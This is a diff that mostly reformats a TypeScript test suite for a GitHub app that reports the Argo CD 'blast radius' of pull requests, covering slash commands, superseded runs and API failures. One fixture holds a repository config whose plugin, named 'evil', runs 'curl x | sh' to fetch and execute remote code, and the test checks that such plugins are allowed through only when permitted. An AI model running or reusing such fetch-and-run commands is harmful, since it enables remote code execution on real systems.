@@ -122,7 +122,12 @@ describe("pull_request", () => {
     ]);
     expect(fake.cleanups).toBe(1);
     const analyzed = fake.analyzeCalls[0]!;
-    expect(analyzed).toMatchObject({ repoDir: "/nonexistent/checkout", base: BASE_SHA, head: HEAD_SHA, baseBranches: ["master"] });
+    expect(analyzed).toMatchObject({
+      repoDir: "/nonexistent/checkout",
+      base: BASE_SHA,
+      head: HEAD_SHA,
+      baseBranches: ["master"],
+    });
     expect(analyzed.repoURLs).toContain("https://github.com/Codertocat/Hello-World");
     expect(analyzed.config?.protectedNamespaces).toContain("kube-system");
     // The token goes to git only: never into what analyze (and its renderers) receive.
@@ -155,7 +160,11 @@ describe("pull_request", () => {
     const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
     const [check, done] = [new Captured(), new Captured()];
     mockInstallationToken();
-    mockFullRun({ check, done, comments: [{ id: 11, body: `${MARKER}\nverdict: pass\nApplications changed.\n${HINT}` }] });
+    mockFullRun({
+      check,
+      done,
+      comments: [{ id: 11, body: `${MARKER}\nverdict: pass\nApplications changed.\n${HINT}` }],
+    });
 
     await receive(appWith(fake.deps), "pull_request", pullRequestPayload("reopened"));
 
@@ -177,7 +186,13 @@ describe("pull_request", () => {
     const fake = fakeDeps(() => okOutcome(cannedReport("no-change")));
     const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
     mockInstallationToken();
-    mockFullRun({ check, done, comment, comments: [{ id: 11, body: `${MARKER}\nverdict: block` }], commentUpdateId: 11 });
+    mockFullRun({
+      check,
+      done,
+      comment,
+      comments: [{ id: 11, body: `${MARKER}\nverdict: block` }],
+      commentUpdateId: 11,
+    });
 
     await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize"));
 
@@ -202,7 +217,8 @@ describe("pull_request", () => {
   });
 
   it("the repository config from the default branch reaches analyze; its plugins only when allowed", async () => {
-    const config = "policy:\n  maxDeletions: 3\nplugins:\n  - name: evil\n    generate: { command: [sh, -c, 'curl x | sh'] }\n";
+    const config =
+      "policy:\n  maxDeletions: 3\nplugins:\n  - name: evil\n    generate: { command: [sh, -c, 'curl x | sh'] }\n";
     for (const allow of [false, true]) {
       const fake = fakeDeps(() => okOutcome(cannedReport("no-change")), { allowRepoPlugins: allow });
       const [check, done] = [new Captured(), new Captured()];
@@ -234,12 +250,20 @@ describe("pull_request", () => {
     const fake = fakeDeps(() => ({ ok: false, error: "unknown revision ec26c3e" }));
     const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
     mockInstallationToken();
-    mockFullRun({ check, done, comment, comments: [{ id: 11, body: `${MARKER}\nverdict: pass` }], commentUpdateId: 11 });
+    mockFullRun({
+      check,
+      done,
+      comment,
+      comments: [{ id: 11, body: `${MARKER}\nverdict: pass` }],
+      commentUpdateId: 11,
+    });
 
     await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize"));
 
     expect(comment.bodies).toEqual([
-      { body: `${MARKER}\n### Argo CD blast radius\n\nThe analysis could not run for the latest commit: unknown revision ec26c3e\n` },
+      {
+        body: `${MARKER}\n### Argo CD blast radius\n\nThe analysis could not run for the latest commit: unknown revision ec26c3e\n`,
+      },
     ]);
     expect(done.last).toMatchObject({ conclusion: "failure" });
   });
@@ -287,7 +311,10 @@ describe("pull_request", () => {
     const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
     mockInstallationToken();
     mockFullRun({ check, done, comment });
-    await receive(probot, "pull_request", { ...pullRequestPayload("edited"), changes: { base: { ref: { from: "old" }, sha: { from: "abc" } } } });
+    await receive(probot, "pull_request", {
+      ...pullRequestPayload("edited"),
+      changes: { base: { ref: { from: "old" }, sha: { from: "abc" } } },
+    });
     expect(fake.analyzeCalls).toHaveLength(1);
   });
 });
@@ -300,9 +327,19 @@ describe("slash commands", () => {
     mockPermission("Codertocat", "write", "write");
     mockReaction(reaction, 700);
     mockGetPull({ headSha: HEAD_SHA });
-    mockFullRun({ check, done, comment, comments: [{ id: 11, body: `${MARKER}\nverdict: block` }], commentUpdateId: 11 });
+    mockFullRun({
+      check,
+      done,
+      comment,
+      comments: [{ id: 11, body: `${MARKER}\nverdict: block` }],
+      commentUpdateId: 11,
+    });
 
-    await receive(appWith(fake.deps), "issue_comment", issueCommentPayload({ body: "/blast-radius approve\nlooks fine, kube-system is recreated" }));
+    await receive(
+      appWith(fake.deps),
+      "issue_comment",
+      issueCommentPayload({ body: "/blast-radius approve\nlooks fine, kube-system is recreated" }),
+    );
 
     expect(reaction.bodies).toEqual([{ content: "+1" }]);
     expect(comment.bodies).toEqual([
@@ -347,7 +384,11 @@ describe("slash commands", () => {
     mockReaction(reaction, 700);
     mockCreateComment(reply);
 
-    await receive(appWith(fake.deps), "issue_comment", issueCommentPayload({ body: "/blast-radius approve", login: "reader" }));
+    await receive(
+      appWith(fake.deps),
+      "issue_comment",
+      issueCommentPayload({ body: "/blast-radius approve", login: "reader" }),
+    );
 
     expect(reaction.bodies).toEqual([{ content: "-1" }]);
     expect(reply.bodies).toEqual([
@@ -363,7 +404,14 @@ describe("slash commands", () => {
     const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
     const approved = `${MARKER}\n<!-- argocd-blast-radius:approved sha=${HEAD_SHA} by=Codertocat -->\nverdict: block`;
     mockInstallationToken();
-    mockFullRun({ check, done, comment, comments: [{ id: 11, body: approved }], commentUpdateId: 11, headSha: NEW_HEAD_SHA });
+    mockFullRun({
+      check,
+      done,
+      comment,
+      comments: [{ id: 11, body: approved }],
+      commentUpdateId: 11,
+      headSha: NEW_HEAD_SHA,
+    });
 
     await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize", NEW_HEAD_SHA));
 
@@ -400,7 +448,8 @@ describe("slash commands", () => {
 
     expect(reaction.bodies).toEqual([{ content: "+1" }]);
     const body = String(reply.last.body);
-    for (const cmd of ["`/blast-radius`", "`/blast-radius approve`", "`/blast-radius help`"]) expect(body).toContain(cmd);
+    for (const cmd of ["`/blast-radius`", "`/blast-radius approve`", "`/blast-radius help`"])
+      expect(body).toContain(cmd);
   });
 
   it("unknown command: confused and the help", async () => {
@@ -487,7 +536,10 @@ describe("superseded runs", () => {
       {
         status: "completed",
         conclusion: "neutral",
-        output: { title: "Superseded", summary: "A newer analysis of this pull request replaced this one; its result was discarded." },
+        output: {
+          title: "Superseded",
+          summary: "A newer analysis of this pull request replaced this one; its result was discarded.",
+        },
       },
     ]);
   });
@@ -499,7 +551,13 @@ describe("superseded runs", () => {
       if (p.head === HEAD_SHA) await gate;
       return okOutcome(cannedReport("pass", p.head));
     });
-    const [checkA, checkB, doneA, doneB, comment] = [new Captured(), new Captured(), new Captured(), new Captured(), new Captured()];
+    const [checkA, checkB, doneA, doneB, comment] = [
+      new Captured(),
+      new Captured(),
+      new Captured(),
+      new Captured(),
+      new Captured(),
+    ];
     mockInstallationToken();
     mockCreateCheckRun(checkA, 42);
     mockRepoConfig(undefined);
@@ -569,14 +627,18 @@ describe("GitHub API failures", () => {
     const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
     const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
     mockInstallationToken();
-    nock("https://api.github.com").post("/repos/Codertocat/Hello-World/check-runs").reply(502, { message: "Bad Gateway" });
+    nock("https://api.github.com")
+      .post("/repos/Codertocat/Hello-World/check-runs")
+      .reply(502, { message: "Bad Gateway" });
     mockCreateCheckRun(check);
     mockRepoConfig(undefined);
     mockGetPull({ headSha: HEAD_SHA });
     mockListComments([]);
     mockCreateComment(comment);
     // The completion's 503 is retried too: the second PATCH reaches the capturing interceptor.
-    nock("https://api.github.com").patch("/repos/Codertocat/Hello-World/check-runs/42").reply(503, { message: "Unavailable" });
+    nock("https://api.github.com")
+      .patch("/repos/Codertocat/Hello-World/check-runs/42")
+      .reply(503, { message: "Unavailable" });
     mockCompleteCheckRun(done);
 
     await receive(appWith(fake.deps, { retry: true }), "pull_request", pullRequestPayload("opened"));
@@ -600,6 +662,10 @@ describe("GitHub API failures", () => {
 
     await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));
 
-    expect(done.last).toMatchObject({ status: "completed", conclusion: "failure", output: { title: "Analysis could not run" } });
+    expect(done.last).toMatchObject({
+      status: "completed",
+      conclusion: "failure",
+      output: { title: "Analysis could not run" },
+    });
   });
 });
